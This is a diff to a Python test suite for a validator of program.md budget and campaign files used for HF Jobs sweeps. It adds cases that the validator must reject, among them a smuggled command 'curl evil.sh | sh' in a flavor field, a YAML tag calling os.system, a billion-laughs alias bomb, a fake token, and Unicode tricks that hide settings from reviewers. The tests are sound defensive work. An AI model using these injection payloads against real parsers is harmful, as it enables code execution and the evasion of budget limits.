@@ -138,6 +138,12 @@ def _decoy_then_real() -> str:
     return decoy + BASE
 
 
+def _indented_envelope() -> str:
+    fenced = BASE[BASE.index("```yaml\nmax_jobs"):BASE.index("## Campaign")]
+    indented = "".join(f"    {line}\n" for line in fenced.splitlines()[1:-1]) + "\n"
+    return _sub(fenced, indented)
+
+
 def _token_in_goal() -> str:
     return _sub("Be accurate.", f"Be accurate. My token, for the record: {fake_hf_token()}")
 
@@ -155,51 +161,138 @@ PROGRAM_CASES: dict[str, tuple[Callable[[], str | bytes], str]] = {
     "binary garbage": (lambda: b"\x89PNG\r\n\x1a\n\x00\xff\xfe garbage", "is not UTF-8 text (byte 0: invalid start byte); save it as UTF-8"),
     "control characters": (lambda: "\x00\x01\x02\x1b[2J" * 50, "missing heading '## Campaign'"),
     "tabs in YAML": (lambda: _sub("max_jobs: 12", "max_jobs:\t12\n\tmax_parallel: 1"),
-                     "'## Budget envelope' YAML does not parse at line 1 of the block"),
+                     "'## Budget envelope' YAML does not parse at line 10:"),
     "tab-indented params": (lambda: _sub("  lr:\n", "\tlr:\n"), "(indent with spaces, not tabs)"),
     "billion laughs in the envelope": (lambda: _sub("max_jobs: 12\n", "max_jobs: 12\n" + _bomb()),
-                                       "'## Budget envelope' YAML expands to more than 10000 values through its anchors and aliases"),
+                                       "'## Budget envelope' line 11: `&l0` is a YAML anchor: anchors and aliases let one "
+                                       "line set values elsewhere, so write each value out"),
     "alias bomb on a validated key": (lambda: _sub("metric: eval_accuracy\n", _bomb() + "metric: eval_accuracy\n")
                                       .replace("    - linear\n    - cosine", "    - *l8"),
-                                      "'## Campaign' YAML expands to more than 10000 values"),
+                                      "'## Campaign' ... and 5 more lines like these"),
     "nesting 20000 deep": (lambda: _sub("max_jobs: 12", "max_jobs: " + "[" * 20000 + "]" * 20000),
                            "'## Budget envelope' YAML is nested too deeply to read (flatten it"),
     "duplicate key in the envelope": (lambda: _sub("max_timeout: 2h\n", "max_timeout: 2h\nmax_jobs: 1000\n"),
-                                      "'## Budget envelope' YAML sets max_jobs twice (lines 1 and 7 of the block); keep one"),
+                                      "'## Budget envelope' line 16: sets max_jobs twice (lines 10 and 16); keep one"),
     "duplicate param": (lambda: _sub("  batch_size:\n", "  lr:\n    choices: [1.0]\n  batch_size:\n"),
-                        "'## Campaign' YAML sets lr twice"),
+                        "'## Campaign' line 35: sets lr twice"),
     "envelope heading twice": (lambda: BASE + "\n## Budget envelope\n\n```yaml\nmax_jobs: 1000\n```\n",
-                               "'## Budget envelope' has 2 fenced ```yaml blocks (or the heading appears more than once); keep one"),
+                               "'## Budget envelope' appears 2 times (lines 7 and 49); keep one heading"),
     "two YAML blocks under one heading": (lambda: _sub("## Campaign\n\n", "## Campaign\n\n```yaml\nmetric: loss\n```\n\n"),
-                                          "'## Campaign' has 2 fenced ```yaml blocks"),
+                                          "'## Campaign' has 2 code blocks (lines 23 and 27); keep one ```yaml block"),
     "headings only inside a code fence": (_code_fenced_headings, "missing heading '## Budget envelope'"),
     "token pasted into the Goal": (_token_in_goal, "line 5 holds what looks like a token (HF, GitHub or Anthropic): delete it and revoke that token"),
     "token as a YAML value": (_token_as_value, "holds what looks like a token"),
     "integer of 5000 digits": (lambda: _sub("max_jobs: 12", "max_jobs: 1" + "0" * 5000),
-                               "'## Budget envelope' YAML has a value that cannot be read (Exceeds the limit (4300 digits)"),
+                               "'## Budget envelope' YAML has a value that cannot be read (Exceeds the limit (4300"),
     "negative max_jobs": (lambda: _sub("max_jobs: 12", "max_jobs: -3"), "max_jobs: input should be greater than 0 (got -3)"),
     "zero max_timeout": (lambda: _sub("max_timeout: 2h", "max_timeout: 0"), "max_timeout: 0 is not a positive duration (use 30m, 2h"),
     "negative max_cost_usd": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nmax_cost_usd: -5"), "max_cost_usd: input should be greater than 0"),
     "float for an int": (lambda: _sub("max_jobs: 12", "max_jobs: 12.5"), "max_jobs: input should be a valid integer, got a number with a fractional part"),
-    "max_jobs: .inf": (lambda: _sub("max_jobs: 12", "max_jobs: .inf"), "max_jobs: input should be a finite number (got inf)"),
+    "max_jobs: .inf": (lambda: _sub("max_jobs: 12", "max_jobs: .inf"), "line 10 (max_jobs): `.inf` is read as infinity; write a finite number"),
     "max_walltime: 1e309": (lambda: _sub("max_walltime: 8h", "max_walltime: 1e309"), "max_walltime: '1e309' is not a duration"),
-    "max_cost_usd: .inf": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nmax_cost_usd: .inf"), "max_cost_usd: input should be a finite number (got inf)"),
-    "max_llm_usd: .nan": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nmax_llm_usd: .nan"), "max_llm_usd: input should be a finite number (got nan)"),
-    "search space up to .inf": (lambda: _sub("high: 0.001", "high: .inf"), "params.lr.high: input should be a finite number (got inf)"),
-    "target: .nan": (lambda: _sub("target: 0.95", "target: .nan"), "target: input should be a finite number (got nan)"),
+    "max_cost_usd: .inf": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nmax_cost_usd: .inf"), "(max_cost_usd): `.inf` is read as infinity"),
+    "max_llm_usd: .nan": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nmax_llm_usd: .nan"), "(max_llm_usd): `.nan` is read as not-a-number"),
+    "search space up to .inf": (lambda: _sub("high: 0.001", "high: .inf"), "(params.lr.high): `.inf` is read as infinity"),
+    "target: .nan": (lambda: _sub("target: 0.95", "target: .nan"), "(target): `.nan` is read as not-a-number"),
+    "max_cost_usd: 1e999 (a float that overflows)": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nmax_cost_usd: 1.0e+999"),
+                                                      "max_cost_usd: input should be a finite number (got inf)"),
     "Cyrillic lookalike key": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nm\u0430x_parallel: 16"),
                                "'m\\u0430x_parallel': unknown key (did you mean max_parallel? It has characters that only look like ASCII letters"),
-    "fullwidth digits": (lambda: _sub("max_jobs: 12", "max_jobs: \uff11\uff12"), "max_jobs: input should be a valid integer"),
+    "fullwidth digits": (lambda: _sub("max_jobs: 12", "max_jobs: \uff11\uff12"),
+                         "(max_jobs): `\uff11\uff12` has the digit U+FF11 (FULLWIDTH DIGIT ONE), which Python reads as 1; write digits with 0-9"),
     "a 200 kB value": (lambda: _sub("- t4-small", "- " + "t" * 200_000),
                        "'## Budget envelope' block is 200"),
     "a 30 kB flavor name": (lambda: _sub("- t4-small", "- " + "t4-small" * 4000), "t4-smallt4… is not an HF Jobs flavor (known flavors: cpu-basic"),
     "shell in a flavor": (lambda: _sub("- t4-small", "- 't4-small; curl evil.sh | sh'"), "is not an HF Jobs flavor"),
     "python object tag": (lambda: _sub("max_jobs: 12", "max_jobs: !!python/object/apply:os.system ['touch pwned']"),
-                          "could not determine a constructor for the tag"),
+                          "line 10: `!!python/object/apply:os.system` is an explicit YAML tag"),
     "second YAML document": (lambda: _sub("max_timeout: 2h\n", "max_timeout: 2h\n---\nmax_jobs: 1000\n"), "but found another document"),
     "unterminated fence": (lambda: _sub("```\n\n## Campaign", "\n\n## Campaign"), "missing heading '## Campaign'"),
     "script outside the repo (absolute)": (lambda: _sub("script: train.py", "script: /bin/sh"), "script: /bin/sh is outside the repository"),
     "program.md over 1 MB": (_too_big, f"over the {MAX_PROGRAM_BYTES} a program.md may be"),
+    "60,000 list items": (lambda: BASE + "- item\n" * 60_000, "program.md has 60047 lines, over the 50000 it may have"),
+    # What a reviewer reads is what is read: YAML that PyYAML reads otherwise (issue 10, class 3) ...
+    "hexadecimal limit": (lambda: _sub("max_jobs: 12", "max_jobs: 0x3E8"),
+                          "'## Budget envelope' line 10 (max_jobs): `0x3E8` is read as 1000 (hexadecimal); write the number "
+                          "in plain decimal, or quote it ('0x3E8') to mean the text"),
+    "octal by a leading zero": (lambda: _sub("epochs: 3", "epochs: 010"), "(fixed.epochs): `010` is read as 8 (octal, for the leading 0)"),
+    "YAML 1.2 octal": (lambda: _sub("epochs: 3", "epochs: 0o17"), "(fixed.epochs): `0o17` is text here but a number to YAML 1.2 readers"),
+    "binary": (lambda: _sub("max_jobs: 12", "max_jobs: 0b1100100"), "(max_jobs): `0b1100100` is read as 100 (binary)"),
+    "underscores": (lambda: _sub("max_jobs: 12", "max_jobs: 1_2"), "(max_jobs): `1_2` is read as 12 (YAML 1.1 drops the underscores)"),
+    "base 60 dollars": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nmax_cost_usd: 2:30"),
+                        "(max_cost_usd): `2:30` is read as 150 (YAML 1.1 base 60)"),
+    "base 60 duration": (lambda: _sub("max_walltime: 8h", "max_walltime: 8:00"), "(max_walltime): `8:00` is read as 480 (YAML 1.1 base 60)"),
+    "+.inf in a fixed value": (lambda: _sub("epochs: 3", "epochs: +.inf"), "(fixed.epochs): `+.inf` is read as infinity"),
+    "on as a boolean": (lambda: _sub("allow_deletes: false", "allow_deletes: on"),
+                        "(allow_deletes): `on` is read as true (a YAML 1.1 boolean); write true, or quote it ('on') to mean the text"),
+    "NO as a choice": (lambda: _sub("    - cosine", "    - NO"), "(params.scheduler.choices.1): `NO` is read as false"),
+    "~ lifts the dollar cap": (lambda: _sub("max_jobs: 12", "max_jobs: 12\nmax_cost_usd: ~"),
+                               "(max_cost_usd): `~` is read as null (not set); write null, or delete the line"),
+    "Arabic-Indic digits in a duration": (lambda: _sub("max_walltime: 8h", "max_walltime: \u0668\u0660\u0660h"),
+                                          "(max_walltime): `\u0668\u0660\u0660h` has the digit U+0668 (ARABIC-INDIC DIGIT EIGHT), "
+                                          "which Python reads as 8"),
+    "a quoted non-ASCII digit for the script": (lambda: _sub("epochs: 3", "epochs: '\u0663\u0660\u0660'"),
+                                                "(fixed.epochs): `\u0663\u0660\u0660` has the digit U+0663"),
+    "!!int on a quoted hex": (lambda: _sub("max_jobs: 12", 'max_jobs: !!int "0x3E8"'),
+                              "line 10: `!!int` is an explicit YAML tag, which changes how the value is read; delete it"),
+    "!!binary script": (lambda: _sub("script: train.py", "script: !!binary ZXZpbC5weQ=="), "line 28: `!!binary` is an explicit YAML tag"),
+    "!!str": (lambda: _sub("max_jobs: 12", "max_jobs: !!str 12"), "`!!str` is an explicit YAML tag"),
+    "a local tag": (lambda: _sub("max_jobs: 12", "max_jobs: !limit 12"), "`!limit` is an explicit YAML tag"),
+    "the non-specific tag": (lambda: _sub("max_jobs: 12", "max_jobs: ! 12"), "`!` is an explicit YAML tag"),
+    "%TAG directive": (lambda: _sub("```yaml\nmax_jobs: 12", "```yaml\n%TAG ! tag:yaml.org,2002:\n---\nmax_jobs: !int 1000"),
+                       "line 10: `%TAG` is a YAML directive, which changes how the block is read; delete that line"),
+    "%YAML directive": (lambda: _sub("```yaml\nmax_jobs: 12", "```yaml\n%YAML 1.1\n---\nmax_jobs: 12"), "`%YAML` is a YAML directive"),
+    "merge key lifts a limit": (lambda: _sub("max_jobs: 12", "<<: {max_jobs: 1000}"),
+                                "line 10 (top level): `<<` is a YAML merge key, which copies keys from elsewhere; write the keys out"),
+    "merge key under an explicit value": (lambda: _sub("max_jobs: 12", "<<: {max_jobs: 999}\nmax_jobs: 12"), "`<<` is a YAML merge key"),
+    "anchor and alias": (lambda: _sub("max_jobs: 12", "max_jobs: &n 12\nmax_parallel: *n"), "line 11: `*n` is a YAML alias"),
+    "right-to-left override in a comment": (lambda: _sub("max_jobs: 12", "max_jobs: 1200 # \u202e21 :sboj_xam"),
+                                            "line 10: U+202E (RIGHT-TO-LEFT OVERRIDE) is invisible on the page but changes how "
+                                            "the line is read"),
+    "a line break only YAML sees": (lambda: _sub("max_jobs: 12", "max_jobs: 12\u2028max_parallel: 16"), "U+2028 (LINE SEPARATOR)"),
+    "a zero-width space in a value": (lambda: _sub("- t4-small", "- t4-small\u200b"), "U+200B (ZERO WIDTH SPACE)"),
+    # ... and settings a reviewer sees on the rendered page that the parser would not read, or the reverse.
+    "a ```yaml title=... block ahead of the real one": (
+        lambda: _sub("max_jobs: 12", "max_jobs: 1000", _sub("## Budget envelope\n\n", '## Budget envelope\n\n```yaml title="approved"\n'
+                                                             "max_jobs: 12\n```\n\n")),
+        "'## Budget envelope' has 2 code blocks (lines 9 and 13); keep one ```yaml block under it"),
+    "a ```YML block": (lambda: _sub("## Budget envelope\n\n", "## Budget envelope\n\n```YML\nmax_jobs: 12\n```\n\n"),
+                      "'## Budget envelope' has 2 code blocks"),
+    "an indented block": (lambda: _sub("## Budget envelope\n\n", "## Budget envelope\n\n    max_jobs: 12\n\n"),
+                          "'## Budget envelope' has 2 code blocks (lines 9 and 11)"),
+    "a ~~~ block with no language": (lambda: _sub("## Budget envelope\n\n", "## Budget envelope\n\n~~~\nmax_jobs: 12\n~~~\n\n"),
+                                     "'## Budget envelope' has 2 code blocks"),
+    "a block in a list item": (lambda: _sub("## Budget envelope\n\n", "## Budget envelope\n\n- approved:\n\n  ```yaml\n  max_jobs: 12\n  ```\n\n"),
+                               "'## Budget envelope' has 2 code blocks"),
+    "a block in a block quote": (lambda: _sub("## Budget envelope\n\n", "## Budget envelope\n\n> ```yaml\n> max_jobs: 12\n> ```\n\n"),
+                                 "'## Budget envelope' has 2 code blocks"),
+    "the settings only in an indented block": (_indented_envelope, "line 9: the settings are in an indented code block; put them in a fenced ```yaml block"),
+    "the settings in a ```text block": (lambda: _sub("```yaml\nmax_jobs: 12", "```text\nmax_jobs: 12"),
+                                        "'## Budget envelope' line 9: the settings are in a code block marked 'text'"),
+    "the block folded in <details>": (lambda: _sub("## Budget envelope\n\n", "## Budget envelope\n\n<details><summary>limits</summary>\n\n")
+                                      .replace("- me/sweep-*\n```\n", "- me/sweep-*\n```\n\n</details>\n"),
+                                      "line 9: raw HTML under '## Budget envelope' can hide, fold or imitate the settings"),
+    "the headings folded in <details>": (lambda: _sub("## Budget envelope", "<details>\n\n## Budget envelope") + "\n</details>\n",
+                                         "line 9: the '## Budget envelope' heading is inside an HTML <details> element opened on line 7"),
+    "a folding tag inside a paragraph": (lambda: _sub("Be accurate.", "Be accurate. <details>"),
+                                         "heading is inside an HTML <details> element opened on line 5"),
+    "a block in an HTML comment": (lambda: _sub("## Budget envelope\n\n", "## Budget envelope\n\n<!--\n```yaml\nmax_jobs: 12\n```\n-->\n"),
+                                   "raw HTML under '## Budget envelope'"),
+    "the heading in a block quote": (lambda: _sub("## Budget envelope\n", "> ## Budget envelope\n"),
+                                     "line 7: the '## Budget envelope' heading is inside a block quote or a list"),
+    "a lookalike heading with a block": (lambda: _sub("## Goal", "## Budget \u0435nvelope\n\n```yaml\nmax_jobs: 12\n```\n\n## Goal")
+                                         .replace("max_jobs: 12\nmax_walltime", "max_jobs: 1000\nmax_walltime"),
+                                         "line 3: the heading 'Budget \\u0435nvelope' holds a code block and reads like 'Budget envelope' "
+                                         "but is not that heading (it has characters that only look like ASCII letters)"),
+    "a bold heading ahead of the real one": (lambda: _sub("## Goal", "## **Budget envelope**\n\n```yaml\nmax_jobs: 12\n```\n\n## Goal"),
+                                             "'## Budget envelope' appears 2 times (lines 3 and 13)"),
+    "a setext heading ahead of the real one": (lambda: _sub("## Goal", "Budget envelope\n---------------\n\n```yaml\nmax_jobs: 12\n```\n\n## Goal"),
+                                               "'## Budget envelope' appears 2 times"),
+    "front matter": (lambda: "---\nmax_jobs: 1000\nmax_parallel: 16\n---\n" + BASE,
+                     "line 1: the file starts with a --- line, so GitHub shows what follows up to the next --- as YAML front matter"),
+    "a block past the nesting markdown-it reads": (lambda: _sub("## Campaign", "> " * 25 + "```yaml\n" + "> " * 25 + "max_jobs: 1\n\n## Campaign"),
+                                                    "line 21: block quotes or lists are nested 16 deep there"),
+    "a fence never closed": (lambda: BASE.rstrip("`\n") + "\n", "'## Campaign' line 23: the ```yaml block is never closed"),
 }
 
 
@@ -235,10 +328,19 @@ ACCEPTED_CASES: dict[str, tuple[Callable[[], str], Callable]] = {
     "CRLF line endings": (lambda: BASE.replace("\n", "\r\n"), lambda p: p.envelope.max_timeout == 7200),
     "headings inside a fence before the real ones": (_decoy_then_real,
                                                      lambda p: p.envelope.max_parallel == 1 and "h200x8" not in p.envelope.allowed_flavors),
-    "a harmless alias": (lambda: _sub("max_jobs: 12", "max_jobs: &n 12\nmax_parallel: *n").replace("max_parallel: *n", "max_parallel: 1"),
-                         lambda p: p.envelope.max_jobs == 12),
-    "merge key under an explicit value": (lambda: _sub("max_jobs: 12", "<<: {max_jobs: 999}\nmax_jobs: 12"), lambda p: p.envelope.max_jobs == 12),
     "a 400-digit max_jobs": (lambda: _sub("max_jobs: 12", "max_jobs: 1" + "0" * 400), lambda p: p.envelope.max_jobs == 10**400),
+    "a ```yaml block with a title": (lambda: _sub("```yaml\nmax_jobs", '```yaml title="budget"\nmax_jobs'), lambda p: p.envelope.max_jobs == 12),
+    "a ```YML block": (lambda: _sub("```yaml\nmax_jobs", "```YML\nmax_jobs"), lambda p: p.envelope.max_jobs == 12),
+    "a ~~~yaml block": (lambda: _sub("```yaml\nmax_jobs", "~~~yaml\nmax_jobs").replace("- me/sweep-*\n```", "- me/sweep-*\n~~~"),
+                        lambda p: p.envelope.max_jobs == 12),
+    "a bold heading": (lambda: _sub("## Budget envelope", "## **Budget** envelope"), lambda p: p.envelope.max_jobs == 12),
+    "a setext heading": (lambda: _sub("## Budget envelope", "Budget envelope\n---"), lambda p: p.envelope.max_jobs == 12),
+    "HTML and examples under other headings": (lambda: _sub("Be accurate.", "Be accurate. <b>Really</b> `<details>`\n\n<!-- a note -->\n\n"
+                                                        "```yaml\nmax_jobs: 999\n```"), lambda p: p.envelope.max_jobs == 12),
+    "quoted yes, plain true and decimal forms": (lambda: _sub("    - cosine", "    - 'yes'").replace("allow_deletes: false", "allow_deletes: False")
+                                                 .replace("max_jobs: 12", "max_jobs: 12.0\nmax_cost_usd: 1e3"),
+                                                 lambda p: p.campaign.params["scheduler"].choices == ["linear", "yes"]
+                                                 and p.envelope.max_cost_usd == 1000.0 and p.envelope.max_jobs == 12),
 }
 
 
@@ -262,7 +364,7 @@ def test_the_billion_laughs_is_refused_in_bounded_time_and_memory():
     elapsed = time.monotonic() - started
     _, peak = tracemalloc.get_traced_memory()
     tracemalloc.stop()
-    assert "expands to more than 10000 values" in info.value.problems[0]
+    assert "`&l0` is a YAML anchor" in info.value.problems[0]
     assert elapsed < 2 and peak < 20_000_000, (elapsed, peak)
 
 
